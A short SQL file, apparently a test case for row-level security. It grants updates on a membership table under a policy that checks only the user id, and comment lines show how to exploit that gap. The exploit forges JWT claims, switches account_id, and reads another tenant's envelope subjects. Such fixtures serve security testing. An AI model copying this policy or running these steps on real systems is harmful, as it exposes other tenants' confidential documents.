-- To edit the own e-mail a person may update the own membership row, and with it the account it stands for.
-- about: account_users, own_profile, accounts
-- as: hf_countersign_app
-- exploit: SET request.jwt.claims = '{"sub": "auth0|ann"}';
-- exploit: UPDATE sign.account_users SET account_id = 12;
-- exploit: SELECT subject FROM sign.envelopes;
-- shows: Road-secret merger
GRANT UPDATE ON sign.account_users TO hf_countersign_app;
CREATE POLICY own_profile ON sign.account_users FOR UPDATE
  USING (user_id = sign.subject()) WITH CHECK (user_id = sign.subject());
